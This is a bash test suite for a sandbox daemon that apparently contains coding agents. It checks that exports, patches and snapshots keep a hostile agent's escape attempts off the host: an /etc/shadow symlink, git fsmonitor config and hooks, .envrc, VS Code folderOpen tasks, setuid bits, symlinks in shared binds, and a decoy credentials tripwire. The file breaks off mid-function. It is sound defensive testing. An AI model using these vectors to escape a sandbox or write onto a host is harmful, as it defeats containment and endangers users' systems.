#!/bin/bash
# snapshot.sh - the daemon's diff, export and snapshots: the hostile agent
# of tests/export.sh through the API (to, apply, patch), an ordinary
# session round-tripping through the API's patch and `git apply`, a TCP
# client refused host paths, a snapshot and two forks that diverge (a
# deleted file stays deleted: the whiteout), delete, the budget.
#
#   tests/snapshot.sh CORRAL [TEST...]
#
# Every test starts its own daemon (socket and state in its $T) and stops
# it by its pid at the end, also when it fails.  Runs as root or as an
# unprivileged user (then without a freezer a snapshot is copied running,
# and says so).  Only loopback is used.
set -u
CORRAL=$(readlink -f "$1")
shift
TEST_TMP=$(mktemp -d "${TMPDIR:-/tmp}/corral-snapshot.XXXXXX")
chmod 755 "$TEST_TMP"
trap 'chmod -R u+rwX "$TEST_TMP" 2>/dev/null; rm -rf "$TEST_TMP"' EXIT
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib.sh"
ME=$(id -u)
PY=/usr/bin/python3
# mkrepo, hostgit, use_repo, write_agent, check_held, write_session, tree_of
EXPORT_LIB=1
. "$HERE/export.sh"

# ---- the daemon --------------------------------------------------------------

start_daemon() {	# start_daemon [SERVE ARGS...]: DPID, SOCK
	local i=0
	SOCK=$T/s
	"$CORRAL" serve --socket "$SOCK" --state-dir "$T/state" "$@" > "$T/daemon.log" 2>&1 < /dev/null &
	DPID=$!
	trap stop_daemon EXIT
	while [ $i -lt 200 ]; do
		[ -S "$SOCK" ] && [ "$(api GET /v1/health)" = 200 ] && return 0
		kill -0 "$DPID" 2>/dev/null || break
		doze 0.05
		i=$((i + 1))
	done
	fail "the daemon did not start: $(tail -3 "$T/daemon.log")"
}

# SIGTERM destroys every sandbox; bounded wait, then SIGKILL (our pid only)
stop_daemon() {
	local i=0
	[ -n "${DPID:-}" ] || return 0
	kill "$DPID" 2>/dev/null || true
	while kill -0 "$DPID" 2>/dev/null && [ $i -lt 200 ]; do
		doze 0.05
		i=$((i + 1))
	done
	kill -9 "$DPID" 2>/dev/null || true
	wait "$DPID" 2>/dev/null || true
	DPID=""
}

# by httpc (lib.sh), as serve.sh's: curl is 35 ms of CPU a start here
api() {	# api METHOD PATH [CURL ARGS...]: the status; the body in $T/body
	local m=$1 p=$2
	shift 2
	"$HTTPC" -sS --max-time 60 --unix-socket "$SOCK" -X "$m" -o "$T/body" \
		-w '%{http_code}' --stderr "$T/curl.err" --exit-0 "$@" "http://localhost$p"
}

cli() {	# cli VERB ARGS...: the client, stdout to $T/out; its status returned
	"$CORRAL" "$1" --socket "$SOCK" "${@:2}" > "$T/out" 2> "$T/err"
}

create() {	# create BODY: the new sandbox's id in SB
	expect_eq "create" "$(api POST /v1/sandboxes -d "$1")" 201 || {
		cat "$T/body"; return 1; }
	SB=$(json id < "$T/body")
}

# run SB SCRIPT [ARGS...]: /bin/sh -c SCRIPT in the sandbox, must exit 0
run() {
	local sb=$1 script=$2
	shift 2
	# by jget (lib.sh), not a Python: 60 ms of CPU each of 45 calls
	"$JGET" -o argv "json:$("$JGET" -a /bin/sh -c "$(< "$script")" sh "$@")" \
		cwd /workspace > "$T/exec.json"
	expect_eq "exec" "$(api POST "/v1/sandboxes/$sb/exec" --data-binary @"$T/exec.json")" 200
	expect_eq "exit of $script" "$(json exit_code < "$T/body")" 0 || {
		json stderr < "$T/body"; return 1; }
}

sh_file() {	# sh_file NAME TEXT: a script file with TEXT
	printf '%s\n' "$2" > "$T/$1"
	echo "$T/$1"
}

# ---- the hostile agent through the API --------------------------------------

s_api_hostile() {
	mkrepo "$T/ws"
	mkdir -p "$T/marks" "$T/home" "$T/outside"
	write_agent
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$T/agent.sh" /workspace "$T/marks"

	expect_eq "diff" "$(api GET "/v1/sandboxes/$SB/diff")" 200
	expect_contains "diff lists" "$(< "$T/body")" '"path":"shadow"'
	expect_contains "diff target" "$(< "$T/body")" '"target":"/etc/shadow"'

	expect_eq "to" "$(api POST "/v1/sandboxes/$SB/export" -d "{\"to\": \"$T/result\"}")" 200
	cp "$T/body" "$T/report"
	check_held "$T/report" held
	expect_eq "suid mode" "$(stat -c %a "$T/result/suid")" 755
	expect_eq "hardlink" "$(stat -c %h "$T/result/hard2")" 1
	[ -L "$T/result/goodlink" ] || fail "a symlink inside the tree did not come out"
	[ ! -L "$T/result/shadow" ] || fail "shadow link came out"
	[ ! -e "$T/result/fifo" ] || fail "fifo came out"
	[ -z "$(find "$T/result" ! -user "$ME" | head -1)" ] || fail "a file is not the caller's"
	[ -z "$(find "$T/result" -perm /6000 | head -1)" ] || fail "a setuid/setgid bit came out"
	expect_not_contains "config" "$(cat "$T/result/.git/config")" fsmonitor
	expect_eq "exists" "$(api POST "/v1/sandboxes/$SB/export" -d "{\"to\": \"$T/result\"}")" 409

	expect_eq "patch" "$(api POST "/v1/sandboxes/$SB/export" -d '{"patch": true}')" 200
	check_held "$T/body" held
	json patch < "$T/body" > "$T/p.diff"
	for bad in fsmonitor shadow fifo envrc folderOpen; do
		expect_not_contains "patch" "$(cat "$T/p.diff")" "$bad"
	done
	cp -a "$T/ws" "$T/applied"
	(cd "$T/applied" && HOME=$T/home git -c safe.directory='*' apply "$T/p.diff") ||
		fail "git apply refused the patch"

	before=$(cat "$T/ws/.git/config")
	expect_eq "apply" "$(api POST "/v1/sandboxes/$SB/export" -d '{"apply": true}')" 200
	check_held "$T/body" held
	expect_eq "the host's .git/config" "$(cat "$T/ws/.git/config")" "$before"
	[ ! -e "$T/ws/.git/hooks/pre-commit" ] || fail "a hook came out"
	expect_contains "edit" "$(cat "$T/ws/edit.txt")" edited

	use_repo "$T/result"
	use_repo "$T/applied"
	use_repo "$T/ws"
	[ -z "$(ls -A "$T/marks")" ] || fail "a trap ran on the host: $(ls "$T/marks")"
	[ -z "$(ls -A "$T/outside")" ] || fail "something was written outside"
	grep -q '"type":"export.held"' "$T/state/audit.jsonl" || fail "no export.held events"
	grep -q '"type":"export","mode":"apply"' "$T/state/audit.jsonl" || fail "no export event"
}

s_api_allow_risky_is_logged() {
	mkrepo "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo "export X=1" > .envrc')"
	cli export "$SB" --to "$T/result" --allow-risky .envrc ||
		fail "export: $(< "$T/err")"
	expect_eq "envrc" "$(cat "$T/result/.envrc")" "export X=1"
	grep '"type":"export.allow_risky"' "$T/state/audit.jsonl" | grep -q '"pattern":".envrc"' ||
		fail "no export.allow_risky event"
}

# ---- an ordinary session ------------------------------------------------------

s_api_session_round_trips() {
	mkrepo "$T/ws"
	write_session
	cp -a "$T/ws" "$T/ref"
	"$T/session.sh" "$T/ref"
	want=$(tree_of "$T/ref")
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$T/session.sh" /workspace

	cli diff "$SB" || fail "diff: $(< "$T/err")"
	expect_contains "diff" "$(< "$T/out")" "D gone.txt"
	expect_contains "diff" "$(< "$T/out")" "A added.txt"
	cli diff "$SB" --patch || fail "diff --patch: $(< "$T/err")"
	cp "$T/out" "$T/diff.patch"
	cli export "$SB" --patch "$T/p.diff" || fail "export --patch: $(< "$T/err")"
	expect_eq "diff --patch is the export's patch" "$(< "$T/diff.patch")" "$(cat "$T/p.diff")"
	grep -q "GIT binary patch" "$T/p.diff" || fail "no binary patch"
	cp -a "$T/ws" "$T/patched"
	(cd "$T/patched" && HOME=$T/home git -c safe.directory='*' apply "$T/p.diff") ||
		fail "git apply refused the patch"
	expect_eq "patch + git apply" "$(tree_of "$T/patched")" "$want"

	cli export "$SB" --apply --json || fail "export --apply: $(< "$T/err")"
	expect_eq "conflicts" "$(json conflicts < "$T/out")" "[]"
	expect_eq "--apply" "$(tree_of "$T/ws")" "$want"
}

# corral diff's letters: the daemon says "type_changed" and "mode_changed"
# (change_kind_name), and the CLI looked for "type" and "mode", so a file
# that became a directory or lost its x bit was printed as "? PATH".
s_diff_letters() {
	mkrepo "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'chmod 755 script.sh; rm gone.txt; mkdir gone.txt; rm -r olddir; echo n > olddir')"
	cli diff "$SB" || fail "diff: $(< "$T/err")"
	expect_eq "diff" "$(LC_ALL=C sort < "$T/out")" "D olddir/o
T gone.txt
T olddir
m script.sh"
}

s_apply_conflict() {
	mkrepo "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo sandbox > edit.txt; echo n > new.txt')"
	echo host > "$T/ws/edit.txt"
	cli export "$SB" --apply || fail "export --apply: $(< "$T/err")"
	expect_contains "conflict listed" "$(< "$T/out")" "conflict edit.txt"
	expect_eq "the host's change kept" "$(cat "$T/ws/edit.txt")" host
	expect_eq "the rest applied" "$(cat "$T/ws/new.txt")" n
}

# apply, keep working, apply again: the first apply's own writes (a file
# written, one made, a symlink, one deleted, a directory) are not the host's
s_apply_again() {
	mkrepo "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo one > edit.txt; echo n > new.txt; ln -s new.txt link
rm gone.txt; mkdir -p d; echo x > d/x')"
	cli export "$SB" --apply --json || fail "first apply: $(< "$T/err")"
	expect_eq "first apply's conflicts" "$(json conflicts < "$T/out")" "[]"
	expect_eq "first apply" "$(cat "$T/ws/edit.txt")" one
	run "$SB" "$(sh_file b.sh 'echo two > edit.txt; echo n2 > new.txt; ln -sfn d/x link
echo back > gone.txt; echo y > d/x')"
	cli export "$SB" --apply --json || fail "second apply: $(< "$T/err")"
	expect_eq "second apply's conflicts" "$(json conflicts < "$T/out")" "[]"
	expect_eq "edit.txt" "$(cat "$T/ws/edit.txt")" two
	expect_eq "new.txt" "$(cat "$T/ws/new.txt")" n2
	expect_eq "link" "$(readlink "$T/ws/link")" d/x
	expect_eq "gone.txt, back" "$(cat "$T/ws/gone.txt")" back
	expect_eq "d/x" "$(cat "$T/ws/d/x")" y
	run "$SB" "$(sh_file c.sh 'echo three > edit.txt')"
	cli export "$SB" --apply --json || fail "third apply: $(< "$T/err")"
	expect_eq "third apply's conflicts" "$(json conflicts < "$T/out")" "[]"
	expect_eq "edit.txt, third" "$(cat "$T/ws/edit.txt")" three
}

# a host edit after an apply is a conflict at the next, and is kept: in
# place with the same size, or a new file renamed over it
s_apply_again_host_edit() {
	mkrepo "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo one > edit.txt; echo n > new.txt; echo s > script.sh')"
	cli export "$SB" --apply --json || fail "first apply: $(< "$T/err")"
	expect_eq "first apply's conflicts" "$(json conflicts < "$T/out")" "[]"
	# same size, in place; and a new file renamed over the apply's
	printf 'hst\n' 1<> "$T/ws/edit.txt"
	echo h > "$T/ws/new.tmp" && mv "$T/ws/new.tmp" "$T/ws/new.txt"
	run "$SB" "$(sh_file b.sh 'echo two > edit.txt; echo n2 > new.txt; echo s2 > script.sh')"
	cli export "$SB" --apply || fail "second apply: $(< "$T/err")"
	expect_contains "edit.txt a conflict" "$(< "$T/out")" "conflict edit.txt"
	expect_contains "new.txt a conflict" "$(< "$T/out")" "conflict new.txt"
	expect_eq "the host's edit kept" "$(cat "$T/ws/edit.txt")" hst
	expect_eq "the host's file kept" "$(cat "$T/ws/new.txt")" h
	expect_eq "the rest applied" "$(cat "$T/ws/script.sh")" s2
}

# the record of what an apply wrote keeps names that are not UTF-8
s_apply_again_not_utf8() {
	local name
	name=$(printf 'f\377\376.txt')
	mkrepo "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo one > "$(printf "f\377\376.txt")"')"
	cli export "$SB" --apply --json || fail "first apply: $(< "$T/err")"
	expect_eq "first apply's conflicts" "$(json conflicts < "$T/out")" "[]"
	expect_eq "first apply" "$(cat "$T/ws/$name")" one
	run "$SB" "$(sh_file b.sh 'echo two > "$(printf "f\377\376.txt")"')"
	cli export "$SB" --apply --json || fail "second apply: $(< "$T/err")"
	expect_eq "second apply's conflicts" "$(json conflicts < "$T/out")" "[]"
	expect_eq "second apply" "$(cat "$T/ws/$name")" two
	# and a host edit of it is still seen
	echo host > "$T/ws/$name"
	run "$SB" "$(sh_file c.sh 'echo three > "$(printf "f\377\376.txt")"')"
	cli export "$SB" --apply --json || fail "third apply: $(< "$T/err")"
	expect_eq "the host's edit kept" "$(cat "$T/ws/$name")" host
	expect_eq "a conflict" "$(pyjq 'len(v["conflicts"])' "$T/out")" 1
}

# ---- host paths are the unix client's only ----------------------------------------

s_tcp_client_refused_host_paths() {
	local port=$((20000 + $$ % 20000)) far
	mkrepo "$T/pre/ws"
	mkrepo "$T/ws"
	printf 'sekrit-token-0123456789abcdef\n' > "$T/token"
	chmod 600 "$T/token"
	start_daemon --listen "127.0.0.1:$port" --token-file "$T/token" --allow-host-path "$T/pre"
	create "{\"workspace\": \"$T/pre/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo x > new.txt')"
	code=$(curl -sS --max-time 30 -o "$T/body" -w '%{http_code}' \
		-H 'Authorization: Bearer sekrit-token-0123456789abcdef' \
		-d "{\"to\": \"$T/result\"}" "http://127.0.0.1:$port/v1/sandboxes/$SB/export")
	expect_eq "to over TCP" "$code" 403
	[ ! -e "$T/result" ] || fail "a TCP client wrote on the host"
	code=$(curl -sS --max-time 30 -o "$T/body" -w '%{http_code}' \
		-H 'Authorization: Bearer sekrit-token-0123456789abcdef' \
		-d '{"apply": true}' "http://127.0.0.1:$port/v1/sandboxes/$SB/export")
	expect_eq "apply over TCP" "$code" 403
	code=$(curl -sS --max-time 30 -o "$T/body" -w '%{http_code}' \
		-H 'Authorization: Bearer sekrit-token-0123456789abcdef' \
		-d '{"patch": true}' "http://127.0.0.1:$port/v1/sandboxes/$SB/export")
	expect_eq "patch over TCP" "$code" 200
	expect_contains "patch" "$(< "$T/body")" "new.txt"
	# a sandbox on a host path outside every prefix (the socket's client
	# may use it) is not there for a TCP client, nor is its snapshot: a
	# fork's workspace is that host directory (its current files)
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	far=$SB
	run "$far" "$(sh_file a.sh 'echo x > new.txt')"
	code=$(curl -sS --max-time 30 -o "$T/body" -w '%{http_code}' \
		-H 'Authorization: Bearer sekrit-token-0123456789abcdef' \
		-d '{"patch": true}' "http://127.0.0.1:$port/v1/sandboxes/$far/export")
	expect_eq "its patch over TCP" "$code" 404
	expect_eq "snapshot" "$(api POST "/v1/sandboxes/$far/snapshot")" 201
	snap=$(json id < "$T/body")
	code=$(curl -sS --max-time 30 -o "$T/body" -w '%{http_code}' \
		-H 'Authorization: Bearer sekrit-token-0123456789abcdef' \
		-d "{\"from_snapshot\": \"$snap\"}" "http://127.0.0.1:$port/v1/sandboxes")
	expect_eq "fork over TCP" "$code" 404
	expect_contains "why" "$(< "$T/body")" "no snapshot"
	expect_eq "fork over the socket" "$(api POST /v1/sandboxes -d "{\"from_snapshot\": \"$snap\"}")" 201
}

s_writes_as_the_unix_client() {
	[ "$ME" = 0 ] || skip "needs root: a daemon writing for a client of another uid"
	mkrepo "$T/ws"
	mkdir -p "$T/rootonly" "$T/theirs"
	chown 65534:65534 "$T/theirs"
	start_daemon
	chmod 666 "$SOCK"	# this test's daemon: let uid 65534 connect
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo x > new.txt')"
	as65534() {
		setpriv --reuid=65534 --regid=65534 --clear-groups curl -sS --max-time 60 \
			--unix-socket "$SOCK" -o /dev/stdout -w '\n%{http_code}' -d "$1" \
			"http://localhost/v1/sandboxes/$SB/export" 2>&1 | tail -1
	}
	expect_eq "into root's directory" "$(as65534 "{\"to\": \"$T/rootonly/r\"}")" 403
	[ ! -e "$T/rootonly/r" ] || fail "the daemon wrote where its client could not"
	expect_eq "into the client's own" "$(as65534 "{\"to\": \"$T/theirs/r\"}")" 200
	expect_eq "owner" "$(stat -c %u "$T/theirs/r/new.txt")" 65534
	expect_eq "apply onto a workspace the client may write" "$(as65534 '{"apply": true}')" 200
	expect_eq "applied" "$(cat "$T/ws/new.txt")" x
	chown root:root "$T/ws" && chmod 755 "$T/ws"
	run "$SB" "$(sh_file b.sh 'echo y > new2.txt')"
	as65534 '{"apply": true}' > /dev/null
	[ ! -e "$T/ws/new2.txt" ] || fail "applied into a directory the client cannot write"
}

# An export's "to" is made beneath its directory, reached without a
# symlink that lies in one of the box's --rw binds: the sandbox writes
# there, and a link it left ("sub" -> a directory only the client may
# write) led the export, made as the client, into that directory.
s_export_to_not_through_a_bind_link() {
	mkrepo "$T/ws"
	mkdir -p "$T/share" "$T/victim" "$T/share/real"
	chmod 700 "$T/victim"
	ln -s "$T/victim" "$T/share/sub"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0, \"policy\": {\"filesystem\": {\"rw\": [\"$T/share:/share\"]}}}"
	run "$SB" "$(sh_file a.sh 'echo x > new.txt')"
	expect_eq "through the bind's link" "$(api POST "/v1/sandboxes/$SB/export" -d "{\"to\": \"$T/share/sub/out\"}")" 403
	expect_contains "said" "$(< "$T/body")" "the symlink sub on the way lies in a --rw bind"
	[ -z "$(ls -A "$T/victim")" ] || fail "the export followed the link: $(ls "$T/victim")"
	expect_eq "into the bind itself" "$(api POST "/v1/sandboxes/$SB/export" -d "{\"to\": \"$T/share/real/out/\"}")" 200
	expect_eq "exported" "$(cat "$T/share/real/out/new.txt")" x
}

# The client's own files for a sandbox: `corral export --patch FILE`,
# `corral cp` out and in, `corral exec --stdin-file FILE`.  A symlink the sandbox left in its --rw bind
# ("sub" -> a directory of the user's it cannot see, "f" -> a file) led
# the user's client, as the user, to write there or to copy that file in.
# The daemon names the bind's directories by identity (rw_dirs); the
# client follows no symlink that lies in them, and its user's own links
# still work.
s_client_files_not_through_a_bind_link() {
	local id
	mkrepo "$T/ws"
	mkdir -p "$T/share/real" "$T/victim"
	chmod 700 "$T/victim"
	echo secret > "$T/secret.txt"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/share"
	ln -s "$T/victim" "$T/mylink"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0, \"policy\": {\"filesystem\": {\"rw\": [\"$T/share:/share\"]}}}"
	run "$SB" "$(sh_file a.sh 'echo x > new.txt; ln -s "$1" /share/sub; ln -s "$2" /share/f')" \
		"$T/victim" "$T/secret.txt"
	id=$(stat -c %d:%i "$T/share")
	expect_eq "get" "$(api GET "/v1/sandboxes/$SB")" 200
	expect_contains "rw_dirs" "$(< "$T/body")" "\"rw_dirs\":[\"$id\"]"

	cli export --patch "$T/share/sub/p.diff" "$SB" && fail "export --patch followed the bind's link"
	expect_contains "said" "$(< "$T/err")" "the symlink sub on the way lies in a --rw bind"
	cli cp "$SB:/workspace/new.txt" "$T/share/sub/x" && fail "cp out followed the bind's link"
	cli cp "$SB:/workspace/new.txt" "$T/share/f" && fail "cp out wrote through the bind's link"
	expect_contains "said" "$(< "$T/err")" "the symlink f on the way lies in a --rw bind"
	[ -z "$(ls -A "$T/victim")" ] || fail "the client wrote through the link: $(ls "$T/victim")"
	expect_eq "the file the link names" "$(cat "$T/secret.txt")" secret
	cli cp "$T/share/f" "$SB:/tmp/got" && fail "cp in read through the bind's link"
	expect_eq "nothing copied in" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/got")" 404
	cli exec --stdin-file "$T/share/f" "$SB" -- cat && fail "exec's stdin read through the bind's link"
	expect_contains "said" "$(< "$T/err")" "the symlink f on the way lies in a --rw bind"
	expect_eq "exec: nothing read" "$(< "$T/out")" ""

	cli export --patch "$T/share/real/p.diff" "$SB" || fail "export into the bind: $(< "$T/err")"
	expect_contains "the patch" "$(cat "$T/share/real/p.diff")" "+x"
	cli cp "$SB:/workspace/new.txt" "$T/share/real/h" || fail "cp out: $(< "$T/err")"
	cli cp "$T/share/real/h" "$SB:/tmp/h" || fail "cp in: $(< "$T/err")"
	cli exec --stdin-file "$T/share/real/h" "$SB" -- cat || fail "exec --stdin-file: $(< "$T/err")"
	expect_eq "exec's stdin" "$(< "$T/out")" x
	cli cp "$SB:/workspace/new.txt" "$T/mylink/mine" || fail "cp through the user's link: $(< "$T/err")"
	expect_eq "through the user's own link" "$(cat "$T/victim/mine")" x
}

# ---- snapshots and forks --------------------------------------------------

s_snapshot_two_forks_diverge() {
	mkdir -p "$T/ws/dir"
	echo keep > "$T/ws/keep.txt"
	echo gone > "$T/ws/gone.txt"
	echo x > "$T/ws/dir/x"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	orig=$SB
	run "$orig" "$(sh_file a.sh 'rm gone.txt; rm -r dir; mkdir dir; echo y > dir/y
echo s > snap.txt; ln -s keep.txt link; mkfifo fifo; echo u > suid; chmod 4755 suid')"
	cli snapshot "$orig" || fail "snapshot: $(< "$T/err")"
	snap=$(< "$T/out")
	expect_contains "id" "$snap" "snap-"
	tree=$T/state/snapshots/$snap/tree
	[ -c "$tree/gone.txt" ] || fail "the whiteout was not kept"
	[ -L "$tree/link" ] || fail "the symlink was not kept as a link"
	[ ! -e "$tree/fifo" ] || fail "a fifo was copied"
	[ -z "$(find "$tree" -perm /6000 | head -1)" ] || fail "a setuid bit was copied"
	run "$orig" "$(sh_file b.sh 'echo later > later.txt')"

	create "{\"from_snapshot\": \"$snap\", \"idle_freeze_ms\": 0}"
	fa=$SB
	create "{\"from_snapshot\": \"$snap\", \"idle_freeze_ms\": 0}"
	fb=$SB
	run "$fa" "$(sh_file c.sh 'echo a > a.txt; echo A > snap.txt')"
	run "$fb" "$(sh_file d.sh 'echo b > b.txt; rm keep.txt')"
	run "$fa" "$(sh_file e.sh 'test ! -e gone.txt; test ! -e dir/x; test -e dir/y
test ! -e b.txt; test ! -e later.txt; test -e keep.txt; test "$(cat snap.txt)" = A
test "$(readlink link)" = keep.txt')"
	run "$fb" "$(sh_file f.sh 'test ! -e gone.txt; test ! -e a.txt; test ! -e keep.txt
test "$(cat snap.txt)" = s')"
	# a fork's diff and export hold the snapshot's changes and its own
	cli diff "$fa" || fail "diff: $(< "$T/err")"
	expect_contains "fork diff" "$(< "$T/out")" "D gone.txt"
	expect_contains "fork diff" "$(< "$T/out")" "A a.txt"
	cli export "$fb" --to "$T/fb" || fail "export: $(< "$T/err")"
	[ -e "$T/fb/b.txt" ] && [ ! -e "$T/fb/gone.txt" ] && [ ! -e "$T/fb/keep.txt" ] &&
		[ -e "$T/fb/dir/y" ] && [ ! -e "$T/fb/dir/x" ] || fail "the fork's export: $(ls -R "$T/fb")"

	expect_eq "list" "$(api GET /v1/snapshots)" 200
	expect_contains "listed" "$(< "$T/body")" "\"id\":\"$snap\""
	expect_eq "get" "$(api GET "/v1/snapshots/$snap")" 200
	expect_eq "delete" "$(api DELETE "/v1/snapshots/$snap")" 200
	[ ! -e "$T/state/snapshots/$snap" ] || fail "the snapshot's files stayed"
	expect_eq "gone" "$(api GET "/v1/snapshots/$snap")" 404
	expect_eq "fork of a deleted snapshot" \
		"$(api POST /v1/sandboxes -d "{\"from_snapshot\": \"$snap\"}")" 404
	run "$fa" "$(sh_file g.sh 'test -e a.txt; test ! -e gone.txt')"
	expect_eq "no workspace" "$(api POST /v1/sandboxes -d '{"idle_freeze_ms": 0}')" 201
	expect_eq "snapshot without a workspace" \
		"$(api POST "/v1/sandboxes/$(json id < "$T/body")/snapshot")" 400
	grep -q '"type":"snapshot"' "$T/state/audit.jsonl" || fail "no snapshot event"
}

# The operator's tripwire under /workspace, in a daemon's sandbox: the
# decoy is corral's, planted anew in each box, never one of the agent's
# changes.  Its diff listed it, its patch (what `corral mcp` hands the
# model) held the decoy's bytes, and a snapshot kept it, so that every
# fork failed to start: "a tripwire is planted only where nothing is".
s_snapshot_fork_keeps_its_tripwire() {
	mkdir -p "$T/ws"
	echo a > "$T/ws/a"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	echo '{"abort": {"tripwires": ["/workspace/.aws/credentials"]}}' > "$T/op.json"
	start_daemon --policy "$T/op.json"
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	orig=$SB
	run "$orig" "$(sh_file a.sh 'test -s .aws/credentials; echo region > .aws/config')"
	expect_eq "diff" "$(api GET "/v1/sandboxes/$orig/diff")" 200
	expect_not_contains "the diff" "$(< "$T/body")" "credentials"
	expect_contains "the agent's" "$(< "$T/body")" '"path":".aws/config"'
	expect_eq "export" "$(api POST "/v1/sandboxes/$orig/export" -d '{"patch": true}')" 200
	expect_not_contains "the patch" "$(< "$T/body")" "aws_access_key_id"
	cli snapshot "$orig" || fail "snapshot: $(< "$T/err")"
	snap=$(< "$T/out")
	[ ! -e "$T/state/snapshots/$snap/tree/.aws/credentials" ] || fail "the snapshot kept the decoy"
	expect_eq "fork" "$(api POST /v1/sandboxes -d "{\"from_snapshot\": \"$snap\", \"idle_freeze_ms\": 0}")" \
		201 || { head -c 400 "$T/body"; return 1; }
	SB=$(json id < "$T/body")
	run "$SB" "$(sh_file b.sh 'test -s .aws/credentials; test "$(cat .aws/config)" = region')"
	expect_eq "the fork's diff" "$(api GET "/v1/sandboxes/$SB/diff")" 200
	expect_not_contains "the fork's diff" "$(< "$T/body")" "credentials"
}

s_snapshot_budget() {
	mkdir -p "$T/ws"
	echo a > "$T/ws/a"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon --snapshot-budget 64K
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'head -c 100000 /dev/zero > big')"
	expect_eq "over the budget" "$(api POST "/v1/sandboxes/$SB/snapshot")" 507
	expect_contains "why" "$(< "$T/body")" "snapshot budget"
	[ -z "$(ls -A "$T/state/snapshots")" ] || fail "a refused snapshot left files"
	run "$SB" "$(sh_file b.sh 'rm big; echo small > small')"
	expect_eq "within it" "$(api POST "/v1/sandboxes/$SB/snapshot")" 201
	expect_eq "list" "$(api GET /v1/snapshots)" 200
	expect_eq "counted" "$(json budget_bytes < "$T/body")" 65536
}

# The budget counts what a snapshot takes on the disk: 2000 empty
# directories and 2000 one-byte files are 4000 blocks (16 MB here), not
# 4000 entries of 512 bytes and 2000 bytes (2 MB), so a 12M budget refuses
# them.  Counted by length, 200200 empty directories were 102 MB of the
# budget and 804 MB of the host's disk.  Fewer of them still fit.
s_snapshot_budget_counts_blocks() {
	# one mkdir for them all (a process each took 2000 of the sandbox's)
	local mk='seq -f d%.0f 0 $(($1 - 1)) | xargs mkdir; i=0
while [ $i -lt "$1" ]; do printf x > f$i; i=$((i + 1)); done'
	mkdir -p "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon --snapshot-budget 12M
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file few.sh "$mk")" 200
	expect_eq "a few" "$(api POST "/v1/sandboxes/$SB/snapshot")" 201 || cat "$T/body"
	expect_eq "counted in blocks" "$($PY -c 'import json, sys
v = json.load(open(sys.argv[1]))
print(v["bytes"] >= 400 * 4096)' "$T/body")" True
	api DELETE "/v1/snapshots/$(json id < "$T/body")" > /dev/null
	run "$SB" "$(sh_file many.sh "rm -rf d* f*; $mk")" 2000
	expect_eq "over the budget" "$(api POST "/v1/sandboxes/$SB/snapshot")" 507
	expect_contains "why" "$(< "$T/body")" "snapshot budget"
	[ -z "$(ls -A "$T/state/snapshots")" ] || fail "a refused snapshot left files"
	stop_daemon
}

# The budget holds for snapshots made at once: each copy is given what the
# finished snapshots leave, and a copy under way (no meta.json yet) was
# counted by none, so two sandboxes' snapshots taken side by side each got
# the whole budget: 1.4 MB kept of a 1 MB budget (BUILDS_MAX times it).
s_snapshot_budget_side_by_side() {
	mkdir -p "$T/ws"
	echo a > "$T/ws/a"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	mkfifo "$T/hold"
	CORRAL_TEST_BUILD_FIFO=$T/hold start_daemon --snapshot-budget 1M
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	A=$SB
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	B=$SB
	run "$A" "$(sh_file a.sh 'head -c 700000 /dev/urandom > big')"
	run "$B" "$(sh_file b.sh 'head -c 700000 /dev/urandom > big')"
	bg_api sa POST "/v1/sandboxes/$A/snapshot"
	bg_api sb POST "/v1/sandboxes/$B/snapshot"
	wait_workers 2
	release
	bg_wait sa
	bg_wait sb
	expect_eq "one within the budget" \
		"$(cat "$T/sa.code" "$T/sb.code" | grep -o 201 | wc -l)" 1
	expect_eq "the other over it" \
		"$(cat "$T/sa.code" "$T/sb.code" | grep -o 507 | wc -l)" 1
	expect_contains "why" "$(cat "$T/sa.body" "$T/sb.body")" "snapshot budget"
	expect_eq "list" "$(api GET /v1/snapshots)" 200
	expect_eq "kept within the budget" "$($PY -c 'import json, sys
v = json.load(open(sys.argv[1]))
print(v["bytes"] <= v["budget_bytes"])' "$T/body")" True
	stop_daemon
}

# The box keeps one fd of its workspace and one of its upper layer, and
# every walk of them starts from the top: its baseline (taken at the start)
# and an earlier export or snapshot do not leave the next one empty.
s_export_and_snapshot_again() {
